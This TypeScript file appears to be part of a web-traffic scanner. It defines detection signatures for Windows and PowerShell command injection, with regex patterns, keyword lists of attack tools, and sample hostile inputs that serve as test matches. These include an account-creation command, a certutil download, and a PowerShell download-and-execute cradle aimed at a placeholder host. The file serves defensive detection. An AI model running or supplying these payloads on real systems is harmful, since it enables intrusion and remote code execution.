import type { Signature, Span } from '../detector.ts'
import { firstMatch } from '../matching/first-match.ts'
import { cmdlet } from '../shell/commands.ts'

const everywhere = ['query', 'body', 'path', 'referer', 'userAgent', 'user'] as const

const windowsCommands = [
  /\breg\s{1,3}(?:add|query|delete|save|export)\s{1,3}["']?hk/i,
  /\bcertutil\s[\s\S]{0,24}-(?:urlcache|decode|encode)/i,
  /\bbitsadmin\s{1,3}\/|\bmshta\s{1,3}(?:https?|vbscript|javascript):|\bregsvr32\s{1,3}\//i,
  /\brundll32\s{1,3}[\w.:\\/]{1,24},/i,
  /\bwmic\s{1,3}(?:process|os|\/node|qfe|service|useraccount)/i,
  /\bschtasks\s{1,3}\/|\bnetsh\s{1,3}(?:firewall|advfirewall|wlan|interface)|\bvssadmin\s{1,3}\w/i,
  /\bfor\s{1,3}\/[fdlr]\s{1,3}|\btype\s{1,3}(?:%\w{1,16}%|[a-z]:\\)/i,
  /%(?:systemroot|windir|programfiles|appdata|temp|userprofile)%[\\/]/i,
  /\bdir\s{1,3}(?:\/[a-z]|[a-z]:\\)|\bping\s{1,3}-[nitc]\s{1,3}\d|\bipconfig\s{0,3}\/all/i,
]

/** `net user x y /add`, `net view \\host`, or `net group` and nothing behind it. */
function findNet(text: string): Span | undefined {
  const match = /\bnet\s{1,3}(?:user|localgroup|group|view|share|start|stop|use)\b/i.exec(text)
  if (!match) return undefined
  const end = match.index + match[0].length
  const rest = text.slice(end, end + 80)
  return rest.trim() === '' || /\/add|\/domain|\\\\|administrators/i.test(rest)
    ? { start: match.index, end }
    : undefined
}

/** Commands of Windows and PowerShell. */
export const windows: readonly Signature[] = [
  {
    id: 'cmdi-windows',
    quietIn: ['search box'],
    title: 'Windows commands with their switches',
    fields: ['query', 'body', 'path'],
    view: 'shell',
    signs: [
      'net ',
      'reg ',
      'certutil',
      'bitsadmin',
      'mshta',
      'regsvr32',
      'rundll32',
      'wmic',
      'schtasks',
      'netsh',
      'type ',
      'vssadmin',
      'for /',
      '%systemroot%',
      '%windir%',
      'dir ',
      'ping ',
      'cscript',
      'wscript',
      'systeminfo',
      'ipconfig',
    ],
    structure: 'a command that only Windows has, with its switch or its argument',
    find: (text) => firstMatch(text, windowsCommands) ?? findNet(text),
    confidence: 0.65,
    matches: ['a=net+user+x+y+/add', 'a=certutil+-urlcache+-f+http://x/y', 'a=type+c:\\boot.ini'],
    ignores: ['q=net+user+group', 'q=type+a+blood', 'q=reg+add+car'],
  },
  {
    id: 'cmdi-substring',
    title: 'letters cut out of a variable of Windows',
    fields: everywhere,
    view: 'decoded',
    signs: [':~'],
    patterns: [/%\w{3,20}:~-?\d{1,3}(?:,-?\d{1,3})?%/],
    confidence: 0.8,
    matches: ['a=%25COMSPEC:~-7,1%25md', 'a=%25ProgramFiles:~10,1%25ing', 'a=x%25windir:~0,1%25'],
    ignores: ['q=10%25:~5', 'q=time:~10', 'q=%25a%25'],
  },
  {
    id: 'cmdi-powershell',
    quietIn: ['prose'],
    title: 'PowerShell',
    fields: everywhere,
    view: 'decoded',
    signs: ['-', 'iex', 'downloadstring', 'frombase64string', 'webclient'],
    patterns: [
      cmdlet,
      /\biex\s{0,3}[(&$]|\bDownload(?:String|File)\s?\(|FromBase64String\s?\(|Net\.WebClient/i,
      /-(?:EncodedCommand|ExecutionPolicy)\s|\$env:[a-z]/i,
      /-e(?:nc?)?\s{1,3}[a-z0-9+/]{20}/i,
    ],
    confidence: 0.6,
    matches: [
      'a=Invoke-Expression+$x',
      "a=IEX(New-Object+Net.WebClient).DownloadString('http://x')",
      'a=|Get-ChildItem+C:',
    ],
    ignores: ['q=get-content', 'q=set-top-box', 'q=new-york-items'],
  },
  {
    id: 'cmdi-powershell-expression',
    title: 'an expression of PowerShell',
    fields: everywhere,
    view: 'decoded',
    signs: [
      'foreach',
      '[char',
      '[system',
      '[convert',
      '[net.',
      '[io.',
      '[text',
      '[reflection',
      "&('",
      '&("',
      "& ('",
      '-join',
      '$_',
      '.invoke',
      '[ref]',
      '-f ',
    ],
    patterns: [
      /&\s?\(\s?['"]\w{1,12}['"]\s?\+|\.ForEach\s?[({]|\|\s?%\s?\{|-join\s?[('[]/i,
      /\[(?:System\.)?(?:Convert|Text\.Encoding|(?:Net|IO|Diagnostics)\.\w{1,20}|Reflection\.Assembly|Char|ref|Environment)\](?:::|\s?\d|\.)/i,
      /\(\s?['"]\{\d\}[^'"]{0,25}['"]\s?-f\s/i,
    ],
    confidence: 0.6,
    matches: [
      "a=%26('i'%2B'ex')",
      'a=@(1).ForEach{whoami}',
      'a=[System.Text.Encoding]::Unicode',
      'a=[char]105%2B[char]101',
    ],
    ignores: ['q=for+each+person', 'type[char]=1', 'q=join+us', 'q=a+-f+b'],
  },
]
